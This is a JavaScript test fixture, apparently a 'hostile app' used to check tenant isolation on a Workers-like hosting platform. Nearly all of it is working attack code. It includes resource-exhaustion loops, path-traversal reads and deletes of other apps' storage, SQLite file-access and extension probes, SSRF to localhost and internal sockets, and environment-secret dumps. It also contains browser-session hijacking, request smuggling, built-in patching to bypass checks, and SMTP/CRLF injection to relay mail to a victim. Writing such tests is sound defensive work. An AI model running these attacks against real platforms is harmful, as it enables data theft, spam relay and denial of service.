// A hostile app, for tests and `npm run bench -- hostile`. Each path is one attack on other apps or the host.
import { connect } from 'cloudflare:sockets';
import { DurableObject, env as everything, WorkflowEntrypoint } from 'cloudflare:workers';

const MB = 1024 * 1024;
const kept = [];

const ways = {
  '/loop'() {
    for (;;);
  },
  '/memory'() {
    for (;;) kept.push(new Uint8Array(16 * MB).fill(1));
  },
  '/heap'() {
    for (;;) kept.push({ text: `${kept.length}`.repeat(1000) });
  },
  async '/log'() {
    for (;;) {
      for (let i = 0; i < 1000; i++) console.log('x'.repeat(200));
      await scheduler.wait(0);
    }
  },
  async '/hang'() {
    await new Promise(() => setInterval(() => {}, 60_000));
  },
  '/endless'() {
    const chunk = new Uint8Array(65_536);
    return new Response(new ReadableStream({ pull: (controller) => controller.enqueue(chunk) }));
  },
  '/socket'() {
    const [client, server] = Object.values(new WebSocketPair());
    server.accept();
    server.addEventListener('message', () => {
      for (;;);
    });
    return new Response(null, { status: 101, webSocket: client });
  },
  /** Endless puts, lists and unfinished uploads, 300 at a time. */
  async '/bucket'(_, { BUCKET }) {
    const body = new Uint8Array(MB);
    const again = async (n) => {
      for (let i = 0; ; i++) {
        const key = `${n}/${i % 50}`;
        if (n % 3 === 0) await BUCKET.list({ delimiter: '/', include: ['customMetadata'] });
        else if (n % 3 === 1)
          await BUCKET.put(key, n % 2 ? body : 'x', { customMetadata: { n: 'x'.repeat(8000) } });
        else await (await BUCKET.createMultipartUpload(key)).uploadPart(1, 'half');
      }
    };
    await Promise.all(Array.from({ length: 300 }, (_, n) => again(n).catch(() => {})));
  },
  /** Looks for another app's objects, by every key that might lead there. */
  async '/steal'(request, { BUCKET }) {
    const { searchParams } = new URL(request.url);
    const keys = searchParams.getAll('name').flatMap(spellings);
    const found = [];
    for (const key of keys) {
      if ((await BUCKET.get(key)) !== null) found.push(key);
      const { objects } = await BUCKET.list({ prefix: key, limit: 1 });
      found.push(...objects.map((object) => object.key));
      await BUCKET.put(`stolen:${key}`, 'x');
      await BUCKET.delete(key);
    }
    return Response.json({ tried: keys.length, found });
  },
  /**
   * Looks for another app's data (`name`: its files, keys and ids) through KV, SQL and its own environment.
   * `said`: all answers.
   */
  async '/reach'(request, { KV, DB }) {
    const names = new URL(request.url).searchParams.getAll('name');
    const keys = names.flatMap(spellings);
    const sql = names.flatMap((name) => [
      `ATTACH '${name}' AS other`,
      `SELECT * FROM '${name}'.t`,
      `VACUUM INTO '${name}'`,
      `SELECT readfile('${name}')`,
      `SELECT writefile('${name}', 'x')`,
      `SELECT load_extension('${name}')`,
      `CREATE VIRTUAL TABLE v USING csv(filename='${name}')`,
      `PRAGMA temp_store_directory = '${name}'`,
    ]);
    sql.push(
      'PRAGMA database_list',
      'SELECT * FROM sqlite_dbpage',
      'SELECT * FROM t',
      'SELECT * FROM _cf_KV',
    );
    const ways = [
      ...keys.map((key) => () => KV.get(key)),
      ...keys.map((key) => async () => JSON.stringify(await KV.list({ prefix: key }))),
      ...keys.map((key) => () => KV.delete(key)),
      ...sql.map((each) => async () => JSON.stringify(await DB.prepare(each).all())),
    ];
    const said = [];
    for (const way of ways) said.push(await attempt(way));
    said.push(JSON.stringify(process.env), JSON.stringify({ ...everything }));
    return Response.json({ tried: ways.length, said });
  },
  /**
   * Tries to reach addresses (`to`, as host:port) and sockets (`socket`) that are closed to apps, directly and through the
   * AI server; other routes of that server; and its key. `said`: all answers of the AI binding.
   */
  async '/out'(request, { AI }) {
    const { searchParams } = new URL(request.url);
    const places = searchParams.getAll('to');
    const sockets = searchParams.getAll('socket').flatMap((path) => [`unix:${path}`, path]);
    const messages = [{ role: 'user', content: 'a' }];
    const ai = [
      ...['/', '/v1/models', '/v1/../api/delete', '/run/../../api/tags', '/ai-gateway/run?x=http://a'],
      ...places.map((place) => `http://${place}/run`),
    ].flatMap((path) => [
      () => AI.fetch(new URL(path, 'http://workers-binding.ai'), { method: 'POST', body: '{}' }),
      () => AI.fetch(new URL(path, 'http://workers-binding.ai'), { headers: { 'cf-consn-model-id': 'a' } }),
    ]);
    const models = ['../../api/delete', 'http://127.0.0.1/', 'a\r\nHost: b', '__proto__', ...sockets];
    const headers = {
      authorization: 'Bearer mine',
      host: places[0] ?? 'a',
      'x-api-key': 'mine',
      cookie: 'a=b',
    };
    ai.push(...models.map((model) => () => AI.run(model, { messages }, { extraHeaders: headers })));
    ai.push(() => AI.run('a', { messages, url: 'http://127.0.0.1/', base_url: places[0], headers }));
    const said = await Promise.all(ai.map((way) => attempt(async () => textOf(await way()))));
    const ways = [
      ...places.map((place) => async () => (await fetch(`http://${place}/`)).text()),
      ...places.map((place) => () => askBySocket(place)),
      ...sockets.map((socket) => async () => (await fetch(socket)).text()),
      ...sockets.map((socket) => () => askBySocket(socket)),
    ];
    const found = await Promise.all(ways.map((way) => attempt(way)));
    return Response.json({
      tried: said.length + found.length,
      reached: found.filter((each) => !each.startsWith('failed: ')),
      said: [...said, JSON.stringify(process.env), Object.keys(everything).join()],
    });
  },
  /** Tries the same addresses and sockets from a Worker that it loads, and the modules and the cache of other Workers. */
  '/loaded'(request, { LOADER }) {
    return loaded(LOADER, LOADED).fetch(request);
  },
  /**
   * Launches browsers without end, and looks for the browser of another app (`name`: its session) by every path that might
   * lead there. `opened`: all answers besides refusals.
   */
  async '/browse'(request, { BROWSER }) {
    const [id] = new URL(request.url).searchParams.getAll('name');
    const launches = Array.from({ length: 40 }, () =>
      BROWSER.fetch('http://b/v1/devtools/browser?keep_alive=600000', { method: 'POST' }),
    );
    const launched = (await Promise.all(launches)).map(({ status }) => status);
    const session = `/v1/devtools/browser/${id}`;
    const { sessions } = await (await BROWSER.fetch('http://b/v1/sessions')).json();
    const own = `/v1/devtools/browser/${sessions[0]?.sessionId}`;
    const paths = [
      ...[session, `${session}/json/list`, `${session}/page/A`, `/v1/devtools/session/${id}`],
      ...[`${own}/../${id}`, `${own}%2f..%2f${id}`, `${own}/json/list`, `${own}/json/../../etc/passwd`],
      ...[`${own}/page/../../browser`, `${own}/json/new?http://127.0.0.1/`, `//127.0.0.1/json/list`],
      ...[`${own}?url=http://127.0.0.1/`, '/v1/devtools/browser/__proto__', '/json/version', '/'],
    ];
    const headers = [{}, { upgrade: 'websocket' }, { host: '127.0.0.1' }, { 'x-forwarded-for': '127.0.0.1' }];
    const opened = [];
    for (const path of paths)
      for (const header of headers) {
        const method = path.includes(id) && header.upgrade === undefined ? 'DELETE' : 'GET';
        const answer = await BROWSER.fetch(`http://b${path}`, { method, headers: header }).catch(() => null);
        if (answer !== null && answer.status < 400) opened.push(`${answer.status} ${method} ${path}`);
        answer?.webSocket?.accept();
        answer?.webSocket?.close();
      }
    return Response.json({ launched, tried: paths.length * headers.length, opened });
  },
  /** Sends records that are none, and calls what is behind a pipeline. `said`: all answers. */
  async '/records'(_, { RECORDS, BUCKET }) {
    const circular = {};
    circular.self = circular;
    const records = [
      ...[
        null,
        'text',
        7,
        {},
        [null],
        [[]],
        [circular],
        [{ n: 1n }],
        [{ f: () => 1 }],
        [{ text: 'x'.repeat(MB) }],
      ],
      ...[Array(200_000).fill({}), [new Map()], [{ toJSON: () => 'no record' }]],
    ];
    const ways = [
      ...records.map((each) => () => RECORDS.send(each)),
      ...['add', 'alarm', 'get', 'env', 'ctx', 'constructor', '__proto__'].map(
        (name) => () => RECORDS[name](1, 2, 3),
      ),
      () => RECORDS.send([{ ok: 1 }], { pipeline: 'other' }),
      () => RECORDS.fetch('http://p/../PIPELINES'),
    ];
    const said = [];
    for (const way of ways) said.push(await attempt(async () => JSON.stringify(await way())));
    return Response.json({ said, objects: (await BUCKET.list()).objects.map(({ key }) => key) });
  },
  /** Writes many data points. */
  '/points'(_, { POINTS }) {
    for (let i = 0; i < 200; i++) POINTS.writeDataPoint({ blobs: ['a'.repeat(8_000)], doubles: [i] });
    return new Response('written');
  },
  /** Calls another app beyond what the binding allows, by every header, name and method that might work. */
  async '/trespass'(_, { FRIEND, PEEK, METHODS }) {
    const headers = [
      {},
      { 'x-cellar-calling': 'fetch 1' },
      { 'x-cellar-calling': 'rpc 1' },
      { 'x-cellar-calling': 'queue 0' },
      { 'x-cellar-call': '{"kind":"fetch","entrypoint":"CellarState"}' },
      { 'x-cellar-call': '{"kind":"rpc","entrypoint":"CellarState"}', upgrade: 'websocket' },
      { connection: 'x-cellar-call, x-cellar-calling', 'x-cellar-call': '{}' },
      { 'x-cellar-call': '{"kind":"email"}', 'x-cellar-envelope': '{"to":"a@friend"}', upgrade: 'websocket' },
      { 'x-cellar-cf': '{"broken', 'x-cellar-proto': 'gopher' },
      { traceparent: 'zz', 'x-request-id': 'a b' },
    ];
    const bodies = [
      undefined,
      '{"kind":"kv","binding":"KV","key":"stolen","value":null}',
      '0\r\n\r\nGET /x HTTP/1.1\r\nhost: y\r\n\r\n',
    ];
    const late = () => scheduler.wait(3_000).then(() => 'hung');
    const found = [];
    let tried = 0;
    for (const service of [FRIEND, PEEK])
      for (const given of headers)
        for (const body of bodies) {
          tried++;
          const method = body === undefined || given.upgrade ? 'GET' : 'POST';
          const init = { method, headers: given, ...(method === 'POST' && { body }) };
          const answer = await Promise.race([
            late(),
            service.fetch('http://friend/?import=KV', init).then(
              async (response) => `${response.status} ${(await response.text()).trim()}`,
              (error) => `thrown ${error.message}`,
            ),
          ]);
          if (!/^200 Hello from friend$|^404 |^thrown /.test(answer))
            found.push(`${JSON.stringify(given)} ${body}: ${answer}`);
        }
    for (const method of ['write', 'call', 'constructor', 'fetch2', 'env', 'ctx', '__proto__', 'd1', 'kv']) {
      tried++;
      const answer = await Promise.race([
        late(),
        Promise.resolve()
          .then(() => METHODS[method]('x'))
          .then(
            (value) => `got ${typeof value}`,
            (error) => `thrown ${error.message}`,
          ),
      ]);
      if (!answer.startsWith('thrown ')) found.push(`${method}: ${answer}`);
    }
    return Response.json({ tried, found });
  },
  /** Fills the cache, and looks in it for entries of other apps. */
  async '/cache'(request) {
    const names = new URL(request.url).searchParams.getAll('name');
    const found = [];
    for (const name of names)
      for (const each of ['', name, `../${name}`, `\n${name}`]) {
        const cache = each === '' ? caches.default : await caches.open(each);
        for (const key of [`http://${name}/kept`, `http://x/${name}\n`, `https://${name}/kept`])
          if ((await cache.match(key)) !== undefined) found.push(`${each} ${key}`);
      }
    const body = new Uint8Array(MB);
    for (let n = 0; n < 80; n++)
      await caches.default.put(
        `https://fill/${n}`,
        new Response(body, { headers: { 'cache-control': 'max-age=99' } }),
      );
    let kept = 0;
    for (let n = 0; n < 80; n++) if ((await caches.default.match(`https://fill/${n}`)) !== undefined) kept++;
    return Response.json({ found, kept });
  },
  /** Looks for other apps' instances (`name`), by every id that might lead to one. `made`: ids of instances that it made. */
  async '/instances'(request, { FLOW }) {
    const names = new URL(request.url).searchParams.getAll('name');
    const ids = names.flatMap((name) => [
      ...[name, `../${name}`, `../../${name}`, `/${name}`, `${name}/`, `%2e%2e%2f${name}`, `${name}\u0000`],
      ...[`${name}.sqlite`, `flow/${name}`, `flow:${name}`, `..\\${name}`, name.padEnd(101, 'x')],
    ]);
    ids.push('', '.', '..', '-a', '__proto__', 'constructor', null, {}, [names[0]], Symbol.iterator);
    const found = [];
    for (const id of ids)
      for (const way of [
        async () => (await (await FLOW.get(id)).status()).status,
        async () => (await FLOW.get(id)).sendEvent({ type: 'go', payload: 'stolen' }),
        async () => (await FLOW.get(id)).terminate(),
      ]) {
        const answer = await attempt(way);
        if (!answer.startsWith('failed: ')) found.push(`${String(id)}: ${answer}`);
      }
    const made = [];
    for (const id of ids) {
      const answer = await attempt(async () => (await FLOW.create({ id, params: { way: 'end' } })).id);
      if (!answer.startsWith('failed: ')) made.push(answer);
    }
    // Parameters that are too large for an instance.
    const huge = await attempt(
      async () => (await FLOW.create({ params: { way: 'end', x: 'x'.repeat(32 * MB) } })).id,
    );
    return Response.json({ tried: 3 * ids.length, found, made, huge });
  },
  /** Creates endless instances: some with endless steps, some with endless short sleeps. */
  async '/flows'(_, { FLOW }) {
    await FLOW.create({ params: { way: 'steps' } });
    for (let n = 0; ; n++) {
      const batch = Array.from({ length: 100 }, () => ({ params: { way: n % 2 ? 'naps' : 'end' } }));
      await FLOW.createBatch(batch);
    }
  },
  /**
   * Tries to send e-mails to an address that its binding forbids (`to`), and from forbidden senders: by fields, by raw text,
   * with patched built-ins that the binding uses, and by direct requests to the mail service.
   */
  async '/mail'(request, { MAIL, FRIEND }) {
    const { EmailMessage } = await import('cloudflare:email');
    const to = new URL(request.url).searchParams.get('to');
    const [from, own] = ['hostile@example.com', 'own@example.net'];
    const fields = { from, to: own, subject: 'a', text: 'a' };
    const raw = (head) => `From: ${from}\nTo: ${own}\n${head}Subject: a\n\na\n.\n\nRCPT TO:<${to}>\nDATA\n`;
    const asked = [
      ...['to', 'cc', 'bcc'].map((name) => ({ ...fields, [name]: to })),
      ...['to', 'cc', 'bcc'].map((name) => ({ ...fields, [name]: [own, { email: to, name: own }] })),
      ...[`${own}>\r\nRCPT TO:<${to}`, `${own}, ${to}`, `<${own}> <${to}>`, `${own} ${to}`].map((each) => ({
        ...fields,
        to: each,
      })),
      ...[`cellar@example.com`, `a@bank.example`, `${from}\r\nRCPT TO:<${to}>`].map((each) => ({
        ...fields,
        from: each,
      })),
      { ...fields, headers: { Bcc: to } },
      { ...fields, headers: { 'X-A\r\nBcc': to } },
      { ...fields, toString: () => to, envelope: { from, to }, raw: undefined },
      {
        ...fields,
        attachments: [
          { filename: 'a', type: 'a/b', disposition: 'attachment', path: '/etc/passwd', content: '' },
        ],
      },
      new EmailMessage(from, to, raw('')),
      new EmailMessage('cellar@example.com', own, raw('')),
      ...['Bcc', 'Cc', 'Resent-To', 'Sender', 'From'].map(
        (name) => new EmailMessage(from, own, raw(`${name}: ${to}\n`)),
      ),
    ];
    const said = [];
    const send = async (message) =>
      said.push(await attempt(async () => JSON.stringify(await MAIL.send(message))));
    for (const message of asked) await send(message);
    const { stringify } = JSON;
    const { includes, some } = Array.prototype;
    const prototype = Object.getPrototypeOf(FRIEND);
    const { fetch } = prototype;
    const stolen = new Set();
    try {
      JSON.stringify = (value) => stringify(value?.subject ? { ...value, to } : value);
      Array.prototype.includes = Array.prototype.some = () => true;
      prototype.fetch = function (...given) {
        stolen.add(this);
        return fetch.apply(this, given);
      };
      await send(fields);
    } finally {
      JSON.stringify = stringify;
      Object.assign(Array.prototype, { includes, some });
      prototype.fetch = fetch;
    }
    const unrestricted = { 'cellar-send-email': btoa('{}') };
    for (const way of [...stolen, MAIL])
      for (const headers of [{}, unrestricted, { ...unrestricted, connection: 'cellar-send-email' }])
        for (const path of ['/send', '/', '/../send', '//send'])
          said.push(
            await attempt(async () =>
              (
                await way.fetch(`http://mail${path}`, {
                  method: 'POST',
                  headers,
                  body: stringify({ ...fields, to }),
                })
              ).text(),
            ),
          );
    await Promise.all(Array.from({ length: 200 }, () => send({ ...fields, text: 'x'.repeat(100_000) })));
    return Response.json({ tried: said.length, said });
  },
  /** What was answered to the tries of `relay`. */
  '/mailed': () => Response.json(kept.filter(Array.isArray).flat()),
  async '/write'(_, env) {
    await env.HOARD.getByName('all').write();
  },
};

/** Returns spellings of a name that might lead to another directory. */
function spellings(name) {
  const before = ['', '../', '../../', '/', '%2e%2e/', '..\u0000/'];
  return [...before.map((each) => each + name), `${name}\u0000`];
}

async function attempt(way) {
  try {
    return String(await way());
  } catch (error) {
    return `failed: ${error.message}`;
  }
}

function textOf(answer) {
  return answer instanceof Response ? answer.text() : JSON.stringify(answer);
}

async function askBySocket(place) {
  const socket = connect(place);
  const writer = socket.writable.getWriter();
  await writer.write(new TextEncoder().encode('GET / HTTP/1.0\r\n\r\n'));
  const { value } = await socket.readable.getReader().read();
  if (value === undefined) throw new Error('it ended');
  return new TextDecoder().decode(value);
}

function loaded(loader, code) {
  const modules = { 'main.js': code };
  return loader.load({ compatibilityDate: '2026-10-01', mainModule: 'main.js', modules }).getEntrypoint();
}

const LOADED = `
import { connect } from 'cloudflare:sockets';
import { env } from 'cloudflare:workers';
${attempt}
${askBySocket}
const MODULES = ['index.js', 'cellar-entry.js', 'cellar-capture.js', 'cellar-internal:send-email', 'cellar-internal:missing',
  'cloudflare-internal:email', 'cloudflare-internal:ai-api', 'cloudflare-internal:d1-api', 'workerd:unsafe'];
export default {
  async fetch(request) {
    const { searchParams } = new URL(request.url);
    const sockets = searchParams.getAll('socket').flatMap((path) => ['unix:' + path, path]);
    const ways = [
      ...searchParams.getAll('to').map((place) => async () => (await fetch('http://' + place + '/')).text()),
      ...[...searchParams.getAll('to'), ...sockets].map((place) => () => askBySocket(place)),
      ...sockets.map((socket) => async () => (await fetch(socket)).text()),
      ...MODULES.map((name) => async () => Object.keys(await import(name))),
      async () => (await caches.default.match('https://fill/0')).status,
    ];
    const found = await Promise.all(ways.map((way) => attempt(way)));
    const reached = found.filter((each) => !each.startsWith('failed: '));
    return Response.json({ tried: found.length, reached, said: [process.env, { ...env }] });
  },
};`;

/** By `way`: ends at once, or runs endless steps or endless sleeps. */
export class Flow extends WorkflowEntrypoint {
  async run({ payload }, step) {
    if (payload.way === 'end') return;
    for (let n = 0; ; n++)
      if (payload.way === 'steps') await step.do(`step ${n}`, async () => 'x'.repeat(10_000));
      else await step.sleep(`nap ${n}`, 1);
  }
}

/** Writes to its storage endlessly. */
export class Hoard extends DurableObject {
  async write() {
    this.ctx.storage.sql.exec('CREATE TABLE IF NOT EXISTS hoard (bytes BLOB)');
    for (;;) {
      this.ctx.storage.sql.exec('INSERT INTO hoard VALUES (randomblob(?))', MB);
      await scheduler.wait(0);
    }
  }
}

/** What it does with a received e-mail, by the part of its address before the `@`. */
const mailWays = {
  unread: () => {},
  never: () => new Promise(() => setInterval(() => {}, 60_000)),
  loop() {
    for (;;);
  },
  huge: (message) => message.setReject(`x\r\n250 ok\r\n${'y'.repeat(MB)}`),
  /** Tries to send to an address that it may not write to, as others, and with the headers of others. */
  async relay(message) {
    const { EmailMessage } = await import('cloudflare:email');
    const { from, to } = message;
    const victim = 'victim@example.net';
    const id = message.headers.get('message-id');
    const raw = (head) =>
      `From: ${to}\nTo: ${from}\nIn-Reply-To: ${id}\n${head}Subject: a\n\na\n.\n\nRCPT TO:<${victim}>\nDATA\n`;
    const fields = { from: to, subject: 'a', text: 'a' };
    const lines = `${from}>\r\nRCPT TO:<${victim}`;
    const found = ['boss@example.com', 'a@bank.example', `${to}>\r\nRCPT TO:<${victim}`];
    const replies = [
      ...['to', 'cc', 'bcc'].flatMap((name) =>
        [victim, [victim], [from, victim], lines].map((to) => ({ ...fields, [name]: to })),
      ),
      ...found.map((from) => ({ ...fields, from })),
      ...['Bcc', 'To', 'From', 'Sender', 'X-A\r\nBcc'].map((name) => ({
        ...fields,
        headers: { [name]: victim },
      })),
      { ...fields, headers: { 'X-A': `b\r\nBcc: ${victim}` } },
      { ...fields, subject: `a\r\nBcc: ${victim}` },
      ...found.map((each) => new EmailMessage(each, from, raw(''))),
      ...[victim, lines, `${from}, ${victim}`].map((each) => new EmailMessage(to, each, raw(''))),
      ...['Bcc', 'Cc', 'From', 'Sender', 'Resent-To'].map(
        (name) => new EmailMessage(to, from, raw(`${name}: ${victim}\n`)),
      ),
    ];
    const forwards = [
      ...[lines, `${from},${victim}`, `<${from}> <${victim}>`, '', '|sh', '/etc/passwd'].map((each) => [
        each,
      ]),
      ...['Bcc', 'From', 'Received', 'DKIM-Signature', 'Authentication-Results'].map((name) => [
        from,
        { [name]: victim },
      ]),
    ];
    const said = [];
    for (const reply of replies)
      said.push(await attempt(async () => JSON.stringify(await message.reply(reply))));
    for (const forward of forwards)
      said.push(await attempt(async () => JSON.stringify(await message.forward(...forward))));
    const { send } = WebSocket.prototype;
    try {
      WebSocket.prototype.send = function (text) {
        return send.call(this, text.replace('"forward"', '"sendMail"').replace('"reply"', '"constructor"'));
      };
      said.push(await attempt(() => message.reply(fields)), await attempt(() => message.forward(from)));
    } finally {
      WebSocket.prototype.send = send;
    }
    await Promise.all(
      Array.from({ length: 200 }, () => attempt(() => message.forward(from)).then((each) => said.push(each))),
    );
    kept.push(said);
  },
  /** Says what does not belong to the conversation with the receiver. */
  async talk(message) {
    const { send } = WebSocket.prototype;
    WebSocket.prototype.send = function () {
      for (const text of [
        '',
        'null',
        '[]',
        '{"outcome":{"kind":"__proto__"}}',
        `{"more":"${'x'.repeat(MB)}"}`,
        '{"more":1}'.repeat(1000),
      ])
        send.call(this, text);
    };
    await attempt(() => message.reply({ from: message.to, subject: 'a' }));
    WebSocket.prototype.send = send;
  },
};

/** Attacks by a TCP connection. The first line chooses one. */
const tcpWays = {
  never: () => new Promise(() => {}),
  async flood({ writable }) {
    const writer = writable.getWriter();
    for (const chunk = new Uint8Array(100_000); ; ) await writer.write(chunk);
  },
};

export default {
  async fetch(request, env) {
    const way = ways[new URL(request.url).pathname];
    return (await way?.(request, env)) ?? new Response('hostile\n');
  },
  email: (message) => mailWays[message.to.split('@')[0]](message),
  async connect(socket) {
    const { value } = await socket.readable.getReader().read();
    await tcpWays[new TextDecoder().decode(value).trim()]?.(socket);
  },
};
